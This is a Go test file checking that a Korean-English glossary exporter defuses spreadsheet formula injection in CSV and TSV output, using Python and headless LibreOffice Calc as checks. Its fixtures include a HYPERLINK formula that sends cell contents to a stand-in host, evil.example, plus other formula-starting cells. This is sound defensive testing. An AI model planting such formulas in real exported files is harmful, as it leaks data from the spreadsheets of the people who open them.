package glossary

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/bitext-ko/bitext/align/testenv"
)

// hostileEntries have cells a spreadsheet would run: formulas, a Korean
// bullet line, and texts that already start with a quote.
func hostileEntries() []Entry {
	return []Entry{
		{Hangul: "김정은", Type: Person, Confidence: 0.9, Context: "- 북한 김정은 국무위원장은 10일…", Romanized: Romanize("김정은", Person),
			Forms: []Form{
				{English: `=HYPERLINK("http://evil.example/?"&A1,"Kim")`, Count: 3, Docs: 1, Context: "=1+1"},
				{English: "+Kim Jong-un", Count: 2, Docs: 1, Context: "@SUM(A1:A9)"},
				{English: "-Kim", Count: 1, Docs: 1, Context: "- Kim said"},
				{English: "@Kim", Count: 1, Docs: 1},
				{English: "'=Kim", Count: 1, Docs: 1},
				{English: "'s-Kim", Count: 1, Docs: 1},
			}},
		{Hangul: "-리용호", Type: Person, Confidence: 0.8, Romanized: Romanize("리용호", Person),
			Forms: []Form{{English: "Ri Yong Ho", Count: 1, Docs: 1}}},
	}
}

func formulaStart(s string) bool { return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) }

// TestCSVFormulaInjection: no cell of a CSV glossary starts with a
// formula character (each such cell has a leading '), and Read gives the
// entries back as they were, quotes included.
func TestCSVFormulaInjection(t *testing.T) {
	in := hostileEntries()
	var buf bytes.Buffer
	if err := Write(&buf, in, CSV); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, c := range row {
			if formulaStart(c) {
				t.Errorf("cell %q starts with a formula character", c)
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK(`, `,'+Kim Jong-un,`, `,'-Kim,`, `,'@Kim,`, `,''=Kim,`, `,'s-Kim,`, `'- 북한`, `,'=1+1`, `'@SUM(A1:A9)`, "\n'-리용호,"} {
		if !strings.Contains(buf.String(), want) {
			t.Errorf("CSV lacks %q:\n%s", want, buf.String())
		}
	}
	checkRoundTrip(t, in, buf.Bytes(), CSV)
}

func checkRoundTrip(t *testing.T, in []Entry, data []byte, f Format) {
	t.Helper()
	got, err := Read(bytes.NewReader(data), "x", f)
	if err != nil {
		t.Fatalf("%s: %v\n%s", f, err, data)
	}
	want := comparable(in, f)
	// Reading keeps the order written.
	if !reflect.DeepEqual(comparable(got, f), want) {
		t.Errorf("%s round trip:\n got %+v\nwant %+v\n%s", f, comparable(got, f), want, data)
	}
}

// TestTSVSafeCells: TSV and TXT are raw by default (OmegaT would take a '
// for part of the term) and neutralized with SafeCells; Read gives the
// same entries back from both.
func TestTSVSafeCells(t *testing.T) {
	for _, f := range []Format{TSV, TXT} {
		t.Run(string(f), func(t *testing.T) { testSafeCells(t, f) })
	}
}

func testSafeCells(t *testing.T, f Format) {
	in := hostileEntries()
	var raw, safe bytes.Buffer
	if err := Write(&raw, in, f); err != nil {
		t.Fatal(err)
	}
	if err := WriteWith(&safe, in, f, WriteOptions{SafeCells: true}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(raw.String(), "\t=HYPERLINK(") || !strings.Contains(raw.String(), "\n-리용호\t") {
		t.Errorf("raw TSV changed its cells:\n%s", raw.String())
	}
	for _, line := range strings.Split(strings.TrimSuffix(safe.String(), "\n"), "\n") {
		for _, c := range strings.Split(line, "\t") {
			if formulaStart(c) {
				t.Errorf("safe TSV cell %q starts with a formula character", c)
			}
		}
	}
	if !strings.Contains(safe.String(), "\t'=HYPERLINK(") || !strings.Contains(safe.String(), "\t''=Kim\t") || !strings.HasPrefix(safe.String(), "'-리용호\t") && !strings.Contains(safe.String(), "\n'-리용호\t") {
		t.Errorf("safe TSV:\n%s", safe.String())
	}
	checkRoundTrip(t, in, raw.Bytes(), f)
	checkRoundTrip(t, in, safe.Bytes(), f)
}

// TestCSVFormulaInjectionPython reads the CSV with Python's csv module, a
// reference parser: every cell is the text as written, a leading ' before
// formula characters, and none starts with one.
func TestCSVFormulaInjectionPython(t *testing.T) {
	testenv.NeedLong(t, "starts python3")
	py := testenv.Program(t, "python3", "python3")
	in := hostileEntries()
	var buf bytes.Buffer
	if err := Write(&buf, in, CSV); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "g.csv")
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(py, "-c", `import csv, json, sys
print(json.dumps(list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))))`, path).Output()
	if err != nil {
		t.Fatalf("python3: %v", err)
	}
	var rows [][]string
	if err := json.Unmarshal(out, &rows); err != nil {
		t.Fatal(err)
	}
	english := map[string]bool{}
	for _, row := range rows { // no header row by default
		english[row[1]] = true
		for _, c := range row {
			if formulaStart(c) {
				t.Errorf("Python reads cell %q, which starts with a formula character", c)
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"Kim")`, "'+Kim Jong-un", "'-Kim", "'@Kim", "''=Kim", "'s-Kim", "Ri Yong Ho"} {
		if !english[want] {
			t.Errorf("Python reads no English cell %q: %q", want, rows)
		}
	}
}

// TestCSVInLibreOffice opens a CSV glossary in a real spreadsheet,
// LibreOffice Calc (headless, converting to CSV, which saves what the
// cells show). The same rows with the quotes taken off, the control,
// show that Calc runs formulas in a CSV it opens; bitext's file comes out
// with every text cell as written.
func TestCSVInLibreOffice(t *testing.T) {
	testenv.NeedLong(t, "starts LibreOffice")
	soffice := testenv.Program(t, "soffice", "libreoffice-calc-nogui")
	in := append(hostileEntries(), Entry{Hangul: "이", Type: Person, Confidence: 1, Romanized: Romanize("이", Person),
		Forms: []Form{{English: "=1+1", Count: 1, Docs: 1, Context: "=2*3"}}})
	var buf bytes.Buffer
	if err := Write(&buf, in, CSV); err != nil {
		t.Fatal(err)
	}
	written, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	control := make([][]string, len(written))
	for i, row := range written {
		control[i] = make([]string, len(row))
		for j, c := range row {
			control[i][j] = strings.TrimPrefix(c, "'")
		}
	}
	dir := t.TempDir()
	var ctl bytes.Buffer
	cw := csv.NewWriter(&ctl)
	cw.WriteAll(control)
	for name, data := range map[string][]byte{"bitext.csv": buf.Bytes(), "control.csv": ctl.Bytes()} {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	out := filepath.Join(dir, "out")
	cmd := exec.Command(soffice, "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--headless",
		"--infilter=CSV:44,34,76,1", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", out,
		filepath.Join(dir, "bitext.csv"), filepath.Join(dir, "control.csv"))
	if msg, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, msg)
	}
	shown := func(name string) [][]string {
		data, err := os.ReadFile(filepath.Join(out, name))
		if err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(bytes.NewReader(data))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rows
	}
	// The text columns: Korean, English and the two contexts.
	text := []int{0, 1, 12, 13}
	ranFormula := false
	for i, row := range shown("control.csv") {
		for _, j := range text {
			if j < len(row) && row[j] != control[i][j] {
				ranFormula = true
			}
		}
	}
	if !ranFormula {
		t.Skip("this LibreOffice does not run formulas in the CSV files it opens: nothing to show")
	}
	got := shown("bitext.csv")
	if len(got) != len(written) {
		t.Fatalf("Calc shows %d rows, bitext wrote %d", len(got), len(written))
	}
	for i, row := range got {
		for _, j := range text {
			if j >= len(row) || row[j] != written[i][j] {
				t.Errorf("row %d column %d: Calc shows %q, bitext wrote %q", i, j, row, written[i][j])
			}
		}
	}
}
